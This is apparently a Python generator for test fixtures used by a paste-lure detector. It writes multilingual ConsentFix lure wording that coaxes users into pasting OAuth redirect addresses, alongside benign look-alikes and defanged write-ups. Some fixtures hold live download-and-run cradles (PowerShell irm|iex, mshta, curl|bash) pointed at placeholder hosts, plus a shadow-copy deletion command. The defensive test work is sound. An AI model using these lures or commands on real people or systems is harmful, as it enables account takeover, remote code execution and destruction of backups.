"""Writes tests/data/cases/b8lures.jsonl: what an eighth blind set found missing on the lure
side, each written here in our own variants (language, wording, page, target) beside the
everyday texts that look like them and must stay quiet, and one benign reading (a write-up
quoting a defanged lure) beside the lures that would abuse it.

    python tests/data/cases/make_b8lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses; no text is copied from a lure collection,
an IOC file, another detector's fixtures or the blind sets. Each line is
{id, text, expect, technique, platform[, source], target}.

Techniques:

- `consentfix-steps`: ConsentFix told in words before any code exists: copy the address of
  the page that points at this computer (http://localhost…, "this site can't be reached",
  the error page) and paste it here / in the box below, in the interface's languages, from a
  lure page or with none, pasted anywhere (the harm is in the words: flagged even into a chat
  box). Look-alikes: a sign-in flow's documentation (redirect_uri, your app reads the code), a
  CLI asking for the redirected address in its terminal, a dev server's "open localhost:3000",
  "paste it into the address bar", a router's help page, Jupyter's "copy and paste one of
  these URLs", a site's form for broken links (an error page with no sign-in), a warning about
  the scam, in the same languages.
- `defanged-write-up` (benign): a security write-up or advisory that quotes the lure's command
  in backticks with every address defanged (hxxps://, [.]), copied from its page or with no
  page, pasted where the guard does not know the target or where nothing runs: a report
  (info at most). Lures that would abuse it stay flagged: the same sentences with a live
  address, a live address beside the defanged one, a network path, a quoted command that is
  harmful without any address (shadow copies deleted), the bare defanged command with no
  sentences, and the write-up pasted into a terminal or the Run box.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b8lures.jsonl")
book = casefile.Book("b8l")


def lure(technique: str, text: str, target: str = "unknown", source: str | None = None) -> None:
    book.add(technique, text, "flagged", "any", target, source)


def quiet(technique: str, text: str, target: str = "unknown", source: str | None = None) -> None:
    book.add(technique, text, "not_flagged", "any", target, source)


# ---- ConsentFix steps, before there is a code -------------------------------------------------
STEP_PAGES = (
    "https://docs-viewer.shared-files.example/open",
    "https://sign.contract-review.test/",
    None,
)
STEPS = (
    # English, the error page's words
    "Last step: copy the full URL of the page that says 'This site can't be reached' (it "
    "begins with http://localhost) and paste it in the box below to open the document.",
    "Your browser will show an error page. That's expected! Copy the address from the address "
    "bar and paste it here to finish verifying your account.",
    "When the next tab shows 'localhost refused to connect', copy the link in the address bar "
    "and paste it into the field below.",
    "To unlock the invoice: sign in, then copy the web address starting with "
    "http://127.0.0.1 and paste it here.",
    # Spanish, German, French, Italian, Portuguese, Dutch, Polish
    "Último paso: copie la URL de la página que dice 'No se puede acceder a este sitio' "
    "(empieza por http://localhost) y péguela aquí.",
    "Kopieren Sie die Adresse der Fehlerseite (beginnt mit http://localhost) und fügen Sie "
    "sie unten in das Feld ein, um die Datei zu öffnen.",
    "Copiez l'adresse de la page d'erreur (elle commence par http://localhost) et collez-la "
    "ici pour afficher le document.",
    "Copia l'indirizzo della pagina di errore (inizia con http://localhost) e incollalo qui "
    "sotto per sbloccare il file.",
    "Copie o endereço da página de erro (começa com http://localhost) e cole no campo abaixo "
    "para liberar o arquivo.",
    "Kopieer het adres van de foutpagina (begint met http://localhost) en plak het hieronder "
    "om het document te openen.",
    "Skopiuj adres strony błędu (zaczyna się od http://localhost) i wklej go w polu poniżej.",
    # Turkish, Russian, Japanese, Chinese: the box before the verb
    "Hata sayfasının adresini (http://localhost ile başlar) kopyalayın ve aşağıdaki kutuya "
    "yapıştırın.",
    "Скопируйте адрес страницы с ошибкой (начинается с http://localhost) и вставьте его в "
    "поле ниже.",
    "エラーページのアドレス（http://localhost で始まります）をコピーして、下の欄に貼り付けてください。",
    "复制错误页的地址（以 http://localhost 开头），然后粘贴到下方的框中以查看文件。",
    # no loopback named: a page that does not load or a blank page, after a sign-in
    "The sign-in window will not load, that's normal. Copy the link from the address bar and "
    "paste it into the verification field to continue.",
    "A blank page opens after you approve access. Copy everything in the address bar and paste "
    "it below to download the file.",
    "Se abrirá una página de error tras iniciar sesión: es normal. Copie la URL y péguela aquí "
    "para ver el documento.",
)
for i, text in enumerate(STEPS):
    page = STEP_PAGES[i % len(STEP_PAGES)]
    lure("consentfix-steps", text, "unknown", page)
    lure("consentfix-steps", text, "other" if i % 2 else "browser_console", page)

STEP_LOOKALIKES = (
    # a sign-in flow's documentation
    "After sign-in the browser is redirected to http://localhost:8080/callback; your app "
    "reads the code from the query string and exchanges it for a token.",
    "Set redirect_uri to http://127.0.0.1:8400/ in the console, copy the client ID and paste "
    "it here in the settings form.",
    # a CLI that asks for the redirected address in its terminal
    "If the browser cannot open the page, copy the URL from the address bar (it starts with "
    "http://localhost:8888) and paste it into the terminal prompt.",
    "Copie la URL de la barra de direcciones (empieza por http://localhost:8080) y péguela "
    "en la terminal donde se ejecuta el comando.",
    "Kopieren Sie die Adresse (http://localhost:8080/...) und fügen Sie sie in die "
    "Eingabeaufforderung ein.",
    # a dev server
    "Start the dev server with npm run dev and open http://localhost:5173 in your browser.",
    "Copy the address http://localhost:3000 and paste it into your browser's address bar.",
    "Copiez l'adresse http://localhost:8000 et collez-la dans la barre d'adresse du navigateur.",
    # a router's help page, an error code
    "If the page can't be reached, type 192.168.0.1 in the address bar and sign in to the router.",
    "If you see 'This site can't be reached', copy the error code (such as "
    "ERR_NAME_NOT_RESOLVED) and paste it in the box below so we can help.",
    # Jupyter's own output
    "To access the server, open this file in a browser. Or copy and paste one of these URLs:",
    # warnings about the scam
    "ConsentFix pages ask you to copy the localhost address from your address bar and paste "
    "it here. Never paste a sign-in address into a web page.",
    "Estafa: le piden copiar la dirección que empieza por http://localhost y pegarla aquí. "
    "No lo haga.",
    # a site's "report a broken link" form: an error page, no sign-in
    "Found a broken link? Copy the address of the error page and paste it in the form below.",
    "If a page can't be reached, copy its URL and paste it here so our team can fix the link.",
    "Wenn eine Fehlerseite erscheint, kopieren Sie die Adresse und fügen Sie sie unten ins "
    "Formular ein, damit wir den defekten Link reparieren.",
    "If you get an error page, copy the URL from the address bar and paste it in the support "
    "form below.",
    # a bug report quoting a loopback address
    "The callback page at http://localhost:8080 shows an error page after login; copy of the "
    "log attached below.",
)
for i, text in enumerate(STEP_LOOKALIKES):
    page = ("https://docs.oauth-lib.example/flows", "https://forum.devtools.example/t/812", None)[
        i % 3
    ]
    quiet("consentfix-steps", text, "unknown", page)
    quiet("consentfix-steps", text, "other", None)


# ---- a write-up quoting a defanged lure ---------------------------------------------------------
WRITE_UP_PAGES = (
    "https://blog.threat-notes.example/2026/fake-captcha",
    "https://advisories.cert-team.test/ta-2026-014",
    None,
)
CRADLES = (
    'powershell -w h -c "irm hxxps://check[.]cdn-verify[.]test/a | iex"',
    "mshta hxxps://captcha-check[.]example/v.hta",
    "curl -fsSL hxxps://dl.mac-fix[.]test/i.sh | bash",
    'powershell -nop -c "iex(iwr hxxp://198.51.100[.]23/s.ps1 -UseBasicParsing)"',
    "msiexec /q /i hxxps://update-check[.]invalid/u.msi",
    'bash -c "$(curl -s hxxps://repair[.]support-mac[.]test/fix)"',
)
WRITE_UPS = (
    "The fake check page tells visitors to press Win+R, paste and press Enter. The clipboard "
    "held `{c}`. Block script hosts from explorer.exe children.",
    "In this wave the lure copied `{c}` to the clipboard and asked the victim to paste it. "
    "Defenders should alert on such command lines.",
    "We observed the page placing `{c}` on the clipboard. The address has been defanged so "
    "that it cannot be followed by accident.",
)
n = 0
for w in WRITE_UPS:
    for c in CRADLES:
        text = w.format(c=c)
        page = WRITE_UP_PAGES[n % len(WRITE_UP_PAGES)]
        quiet("defanged-write-up", text, "unknown" if n % 2 == 0 else "other", page)
        n += 1

# what would abuse it: the same sentences with a live address, a live address beside a
# defanged one, a network path, a harmful command needing no address, no sentences at all,
# and the write-up where its words would run
ABUSE_PAGE = "https://verify.human-check.test/step2"
LIVE = (
    'powershell -w h -c "irm https://check.cdn-verify.test/a | iex"',
    "mshta https://captcha-check.example/v.hta",
    "curl -fsSL https://dl.mac-fix.test/i.sh | bash",
)
for i, c in enumerate(LIVE):
    lure("defanged-write-up", WRITE_UPS[i % 3].format(c=c), "unknown", ABUSE_PAGE)
    lure("defanged-write-up", WRITE_UPS[(i + 1) % 3].format(c=c), "unknown", None)
lure(
    "defanged-write-up",
    "The report names hxxps://old[.]cdn-verify[.]test as the first host. The clipboard held "
    '`powershell -w h -c "irm https://new.cdn-verify.test/a | iex"` this time.',
    "unknown",
    ABUSE_PAGE,
)
lure(
    "defanged-write-up",
    "The first stage lived at hxxps://stage[.]example/a and the clipboard held "
    "`mshta \\\\203.0.113.9\\webdav\\v.hta` to run the second one from a share.",
    "unknown",
    None,
)
lure(
    "defanged-write-up",
    "The page from hxxps://fix[.]support-desk[.]test asks for one last step. Paste "
    "`vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet` and press Enter "
    "to finish the repair.",
    "unknown",
    None,
)
for c in CRADLES[:3]:
    lure("defanged-write-up", c, "unknown", None)
for i, c in enumerate(CRADLES[:3]):
    text = WRITE_UPS[i % 3].format(c=c)
    lure("defanged-write-up", text, "run_dialog", ABUSE_PAGE)
    lure("defanged-write-up", text, "terminal" if i == 2 else "run_dialog", None)

CASES = book.cases


def main() -> None:
    casefile.write(OUT, CASES)


if __name__ == "__main__":
    main()
